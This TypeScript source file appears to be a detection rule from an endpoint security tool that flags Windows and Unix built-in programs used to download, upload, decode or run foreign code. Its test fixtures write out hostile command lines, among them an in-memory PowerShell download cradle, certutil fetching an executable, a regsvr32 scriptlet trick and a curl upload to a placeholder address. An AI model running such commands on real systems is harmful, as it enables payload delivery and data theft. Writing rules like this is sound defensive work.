import type { DetectionLevel } from '../../model/detection.ts'
import { baseName } from '../../normalise/path.ts'
import { isProxyCommand } from '../command-signs.ts'
import { currentDirectory } from '../current-directory.ts'
import { type OrderedDownload, orderedDownloads } from '../downloads.ts'
import { proofOf, urlEntity } from '../drafts.ts'
import { decodedCommand } from '../../normalise/encoded-command.ts'
import { exampleEvent } from '../example.ts'
import { placeOf } from '../hiding-places.ts'
import { openedFiles } from '../opened-files.ts'
import type { ProcessFact } from '../process-index.ts'
import type { EntityDraft, Find, Rule } from '../rule.ts'
import type { ViewEvent } from '../view.ts'

/** Programs that fetch as a side effect: nobody downloads with them who does not have to. */
const ODD_FETCHERS = new Set(
  'certutil bitsadmin mshta regsvr32 rundll32 msiexec certreq desktopimgdownldr esentutl extrac32 hh ieexec installutil presentationhost cmdl32 wmic msbuild cscript wscript finger ftp'.split(
    ' ',
  ),
)
/** Loaders: what they are given runs inside a program of Windows. */
const LOADERS = new Set(
  'rundll32 regsvr32 mshta wscript cscript msbuild installutil regasm regsvcs cmstp odbcconf hh control'.split(
    ' ',
  ),
)
/** The loader itself runs the text: fetched and run in one go, never on disk. */
const IN_MEMORY =
  /\b(?:iex|invoke-expression)\b|\|\s*(?:iex|cmd|powershell|bash|sh)\b|\[(?:system\.)?reflection\.assembly\]::load|scriptblock\]::create|\.invoke\(/i
/** A decoder that turns text into a program. */
const DECODES = /\bcertutil(?:\.exe)?["']?\s+.{0,40}-(?:decode|decodehex)\b/i
const ENCODES = /\bcertutil(?:\.exe)?["']?\s+.{0,40}-encode(?:hex)?\b/i
/** Options that send a file or form instead of fetching one. */
const SENDS =
  /\bcurl(?:\.exe)?\b.{0,400}\s(?:-T|--upload-file|-F|--form|--data-binary|-d)\s|\b(?:iwr|irm|invoke-webrequest|invoke-restmethod)\b.{0,400}-(?:infile|body)\b|uploadfile\(|uploaddata\(|\bbitsadmin\b.{0,80}\/upload\b/is
/** Addresses of the maker or of the machine itself. */
const OWN_HOSTS =
  /^(?:localhost|127\.|10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|\[?::1)|(?:^|\.)(?:microsoft|windowsupdate|windows|office|msftconnecttest|adobe|google|gvt1|mozilla)\.(?:com|net|org)$/i

const LEVELS = { cradle: 'high', odd: 'high', plain: 'low' } as const

const rule: Rule = {
  id: 'process.lolbin',
  order: 37,
  relations: [],
  detections: ['download', 'unix_download', 'upload', 'unix_upload', 'proxy', 'loaded', 'decoded'],
  scope: 'endpoint',
  attack: [
    'T1105',
    'T1218.005',
    'T1218.010',
    'T1218.011',
    'T1218.007',
    'T1197',
    'T1059.001',
    'T1140',
    'T1127.001',
    'T1220',
    'T1048',
  ],
  attackOf: {
    download: ['T1105'],
    unix_download: ['T1105'],
    upload: ['T1048'],
    unix_upload: ['T1048'],
    decoded: ['T1140'],
  },
  texts: {
    en: {
      title: 'Programs of Windows put to other uses',
      description:
        'Tools that every Windows has fetch from the network, run foreign code, load libraries and scripts from folders users can write to, or turn text into programs: certutil, bitsadmin, mshta, regsvr32, rundll32, msiexec, wmic, PowerShell and others; and the commands that fetch on Linux and macOS. The same program that fetches the same address again is told once for each endpoint. The addresses and files themselves are joined by the rules for downloads and opened files.',
      needs: 'Process start records with command lines (Sysmon 1, Security 4688 with command line auditing).',
      falsePositives:
        'Software deployment and administrators download with curl and PowerShell; alone that weighs little. Some vendors install with regsvr32 and rundll32 from temporary folders.',
      'detection.download': 'A tool of Windows downloaded from the network',
      'detection.upload': 'A tool of Windows sent data to the network',
      'detection.unix_download': 'A command of Linux or macOS downloaded from the network',
      'detection.unix_upload': 'A command of Linux or macOS sent data to the network',
      'detection.proxy': 'A tool of Windows ran foreign code',
      'detection.loaded': 'A loader of Windows ran a file from an odd folder',
      'detection.decoded': 'A tool of Windows turned text into a file, or a file into text',
      'reason.cradle': '{program} fetches {url} and runs what comes, without a file in between.',
      'reason.odd_fetcher': '{program} fetches {url}; it is not made for downloads.',
      'reason.fetcher': '{program} fetches {url}.',
      'reason.upload': '{program} sends data to {url}.',
      'reason.proxy': '{program} was called in a way that makes it run foreign code: {command}',
      'reason.loaded': '{program} was told to run {file}, which lies where nothing is installed.',
      'reason.share': '{program} was told to run {file} from another machine.',
      'reason.decoded': '{program} was told to turn encoded text into a file: {command}',
      'reason.encoded':
        '{program} was told to turn a file into text, as done before smuggling it out: {command}',
    },
    'zh-TW': {
      title: '被挪作他用的 Windows 程式',
      description:
        '每台 Windows 都有的工具從網路下載、執行外來程式碼、從使用者可寫入的資料夾載入程式庫與指令碼，或將文字還原成程式：certutil、bitsadmin、mshta、regsvr32、rundll32、msiexec、wmic、PowerShell 等；另含 Linux 與 macOS 上用於下載的命令。同一程式重複取得同一位址時，每個端點僅提示一次。位址與檔案本身由下載與開啟檔案的規則相連。',
      needs: '含命令列的處理程序啟動紀錄（Sysmon 1、已啟用命令列稽核的安全性 4688）。',
      falsePositives:
        '軟體派送與管理員也會用 curl 與 PowerShell 下載，單獨出現時嚴重性不高。部分廠商會以 regsvr32 與 rundll32 從暫存資料夾安裝。',
      'detection.download': 'Windows 工具從網路下載',
      'detection.upload': 'Windows 工具將資料傳送至網路',
      'detection.unix_download': 'Linux 或 macOS 的命令從網路下載',
      'detection.unix_upload': 'Linux 或 macOS 的命令將資料傳送至網路',
      'detection.proxy': 'Windows 工具執行外來程式碼',
      'detection.loaded': 'Windows 載入程式執行了異常資料夾中的檔案',
      'detection.decoded': 'Windows 工具將文字轉成檔案，或將檔案轉成文字',
      'reason.cradle': '{program} 取得 {url} 並直接執行內容，過程中不落地為檔案。',
      'reason.odd_fetcher': '{program} 取得 {url}；它並非用來下載的程式。',
      'reason.fetcher': '{program} 取得 {url}。',
      'reason.upload': '{program} 將資料傳送至 {url}。',
      'reason.proxy': '{program} 的呼叫方式會使其執行外來程式碼：{command}',
      'reason.loaded': '{program} 受命執行 {file}，該檔案位於不會安裝軟體的資料夾。',
      'reason.share': '{program} 受命執行位於其他電腦的 {file}。',
      'reason.decoded': '{program} 受命將編碼文字還原成檔案：{command}',
      'reason.encoded': '{program} 受命將檔案轉為文字，常見於夾帶外流之前：{command}',
    },
    ja: {
      title: '本来と違う用途に使われた Windows のプログラム',
      description:
        'どの Windows にもあるツールが、ネットワークからの取得、外部コードの実行、ユーザーが書き込めるフォルダーのライブラリやスクリプトの読み込み、テキストからのプログラム復元に使われています。certutil、bitsadmin、mshta、regsvr32、rundll32、msiexec、wmic、PowerShell などと、Linux・macOS で取得に使うコマンドが対象です。同じプログラムが同じアドレスを繰り返し取得する場合は、エンドポイントごとに 1 件にまとめます。アドレスやファイル自体は、ダウンロードと開かれたファイルのルールが結び付けます。',
      needs:
        'コマンドラインを含むプロセス起動の記録（Sysmon 1、またはコマンドラインの監査を有効にしたセキュリティ 4688）。',
      falsePositives:
        'ソフトウェア配布や管理者も curl や PowerShell でダウンロードするため、それだけでは重く見ません。一時フォルダーから regsvr32 や rundll32 でインストールする製品もあります。',
      'detection.download': 'Windows のツールがネットワークからダウンロードした',
      'detection.upload': 'Windows のツールがネットワークへデータを送信した',
      'detection.unix_download': 'Linux または macOS のコマンドがネットワークからダウンロードした',
      'detection.unix_upload': 'Linux または macOS のコマンドがネットワークへデータを送信した',
      'detection.proxy': 'Windows のツールが外部のコードを実行した',
      'detection.loaded': 'Windows のローダーが不自然なフォルダーのファイルを実行した',
      'detection.decoded': 'Windows のツールがテキストをファイルに、またはファイルをテキストに変換した',
      'reason.cradle': '{program} が {url} から取得し、ファイルに残さずにそのまま実行します。',
      'reason.odd_fetcher':
        '{program} が {url} から取得します。本来ダウンロード用のプログラムではありません。',
      'reason.fetcher': '{program} が {url} から取得します。',
      'reason.upload': '{program} が {url} にデータを送信します。',
      'reason.proxy': '{program} が、外部のコードを実行させる形で呼び出されました：{command}',
      'reason.loaded':
        '{program} が、通常ソフトウェアを置かないフォルダーの {file} を実行するよう命じられました。',
      'reason.share': '{program} が、別のマシンにある {file} を実行するよう命じられました。',
      'reason.decoded': '{program} が、符号化されたテキストをファイルに戻すよう命じられました：{command}',
      'reason.encoded':
        '{program} が、ファイルをテキストに変換するよう命じられました。持ち出しの前によく行われます：{command}',
    },
  },
  matches: [
    {
      title:
        'a download cradle, certutil, a scriptlet by regsvr32, a library in a public folder, and a timer of Linux, told once',
      items: [
        exampleEvent('process-start', 0, {
          processPath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
          pid: 5,
          commandLine: 'powershell -nop -c "iex (irm https://cdn.example.net/s)"',
        }),
        exampleEvent('process-start', 1, {
          processPath: 'C:\\Windows\\System32\\certutil.exe',
          pid: 6,
          commandLine: 'certutil -urlcache -split -f http://203.0.113.9/b.txt C:\\t\\b.exe',
        }),
        exampleEvent('process-start', 2, {
          processPath: 'C:\\Windows\\System32\\regsvr32.exe',
          pid: 7,
          commandLine: 'regsvr32 /s /n /u /i:C:\\x\\a.sct scrobj.dll',
        }),
        exampleEvent('process-start', 3, {
          processPath: 'C:\\Windows\\System32\\rundll32.exe',
          pid: 8,
          commandLine: 'rundll32 C:\\Users\\Public\\a.dll,Start',
        }),
        exampleEvent('process-start', 3.5, {
          processPath: 'C:\\Windows\\System32\\mshta.exe',
          pid: 11,
          commandLine: 'mshta \\\\203.0.113.9\\share\\a.hta',
        }),
        exampleEvent('process-start', 4, {
          processPath: 'C:\\Windows\\System32\\certutil.exe',
          pid: 9,
          commandLine: 'certutil -decode C:\\x\\a.txt C:\\x\\a.exe',
        }),
        ...[0, 1800, 3600].map((seconds) =>
          exampleEvent('process-start', seconds, {
            host: 'srv-git.corp.example',
            processPath: '/usr/bin/wget',
            pid: 20 + seconds,
            commandLine: 'wget -q -O /var/cache/geo.db https://geo.example.net/db',
          }),
        ),
        exampleEvent('process-start', 5, {
          processPath: 'C:\\Windows\\System32\\curl.exe',
          pid: 12,
          commandLine: 'curl -T C:\\ProgramData\\a.zip https://203.0.113.9/u',
        }),
      ],
      finds: [
        '!download: powershell.exe',
        '!download: certutil.exe',
        '!proxy: regsvr32.exe',
        '!loaded: rundll32.exe',
        '!loaded: mshta.exe',
        '!decoded: certutil.exe',
        '!unix_download: wget',
        '!upload: curl.exe',
      ],
    },
  ],
  ignores: [
    {
      title:
        'installers and settings, control panels, a module of the maker, and a page on the machine itself',
      items: [
        exampleEvent('process-start', 0, {
          processPath: 'C:\\Windows\\System32\\regsvr32.exe',
          pid: 5,
          commandLine: 'regsvr32 /s "C:\\Program Files\\Vendor\\a.dll"',
        }),
        exampleEvent('process-start', 1, {
          processPath: 'C:\\Windows\\System32\\rundll32.exe',
          pid: 6,
          commandLine: 'rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL desk.cpl',
        }),
        exampleEvent('process-start', 2, {
          processPath: 'C:\\Windows\\System32\\msiexec.exe',
          pid: 7,
          commandLine: 'msiexec /i C:\\Windows\\Installer\\1a.msi /qn',
        }),
        exampleEvent('process-start', 3, {
          processPath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
          pid: 8,
          commandLine: 'powershell Invoke-WebRequest http://localhost:8080/health',
        }),
        exampleEvent('process-start', 4, {
          processPath: 'C:\\Windows\\System32\\certutil.exe',
          pid: 9,
          commandLine: 'certutil -hashfile C:\\x\\a.iso SHA256',
        }),
        exampleEvent('process-start', 5, {
          processPath: 'C:\\Windows\\System32\\cmd.exe',
          pid: 10,
          commandLine: 'cmd /c echo https://help.example.org',
        }),
      ],
      finds: [],
    },
  ],

  *run(view): Generator<Find> {
    const directories = new Map<number, string>()
    for (const event of view.events(['process-start'], ['detail'])) {
      const directory = currentDirectory(event.fields.detail)
      if (directory !== undefined) directories.set(event.id, directory)
    }
    // What a timer fetches again and again is told once, of its first run.
    const firsts = new Map<string, EntityDraft>()
    for (const process of view.processes.started)
      if (process.event && process.commandLine !== '')
        yield* judge(process, process.event, directories.get(process.event.id), firsts)
  },
}
export default rule

function* judge(
  process: ProcessFact,
  event: ViewEvent,
  directory: string | undefined,
  firsts: Map<string, EntityDraft>,
): Generator<Find> {
  const { commandLine } = process
  const program = process.draft.name
  const stem = baseName(process.path)
    .toLowerCase()
    .replace(/\.exe$/, '')
  const command = commandLine.slice(0, 300)
  const found = (
    detection: string,
    level: DetectionLevel,
    confidence: number,
    reason: string,
    params: Record<string, string>,
    other?: EntityDraft,
  ): Find => ({
    detection,
    level,
    subject: process.draft,
    involved: [process.endpointId, ...(other ? [other] : [])],
    at: process.startAt,
    confidence,
    reason,
    params: { program, ...params },
    proof: proofOf(event),
  })
  const text = decodedCommand(commandLine) ?? commandLine
  // A shell that passes a command on is told by the program that runs it.
  const isPassing =
    stem === 'cmd' &&
    /\b(?:powershell|pwsh|curl|certutil|bitsadmin|mshta|regsvr32|rundll32|msiexec|wmic)\b/i.test(text)
  if (isPassing) return
  for (const download of orderedDownloads(text, directory)) {
    const page = urlEntity(download.url)
    const host = page?.attributes?.['host']
    if (!page || typeof host !== 'string' || OWN_HOSTS.test(host)) continue
    const isUnix = process.path.startsWith('/')
    if (SENDS.test(text)) {
      yield found(isUnix ? 'unix_upload' : 'upload', 'medium', 0.65, 'upload', { url: page.name }, page)
      continue
    }
    const kind = kindOf(stem, text, download)
    const find = found(
      isUnix ? 'unix_download' : 'download',
      LEVELS[kind],
      kind === 'plain' ? 0.5 : 0.88,
      REASONS[kind],
      {
        url: page.name,
      },
    )
    const repeat = `${process.endpointId}|${stem}|${kind}|${page.name}`
    const subject = firsts.get(repeat) ?? process.draft
    firsts.set(repeat, subject)
    yield { ...find, subject, involved: [process.endpointId, page] } as Find
  }
  if (DECODES.test(commandLine)) yield found('decoded', 'high', 0.85, 'decoded', { command })
  else if (ENCODES.test(commandLine)) yield found('decoded', 'medium', 0.6, 'encoded', { command })
  if (isProxyCommand(commandLine)) {
    yield found('proxy', 'high', 0.88, 'proxy', { command })
    return
  }
  if (!LOADERS.has(stem)) return
  const opened = openedFiles(process.path, commandLine, directory)
  const remote = opened.find(({ path }) => path.startsWith('\\\\'))
  if (remote) {
    const isBare = /^\\\\(?:\d{1,3}(?:\.\d{1,3}){3}|[^\\]*@(?:ssl|\d+))\\/i.test(remote.path)
    yield found('loaded', isBare ? 'high' : 'medium', isBare ? 0.8 : 0.5, 'share', { file: remote.path })
    return
  }
  const odd = opened.find(({ path }) => placeOf(path) === 'hiding')
  if (odd)
    yield found('loaded', stem === 'wscript' || stem === 'cscript' ? 'medium' : 'high', 0.75, 'loaded', {
      file: odd.path,
    })
}

const REASONS = { cradle: 'cradle', odd: 'odd_fetcher', plain: 'fetcher' } as const

function kindOf(stem: string, text: string, download: OrderedDownload): keyof typeof LEVELS {
  if (IN_MEMORY.test(text) && download.path === undefined) return 'cradle'
  return ODD_FETCHERS.has(stem) ? 'odd' : 'plain'
}
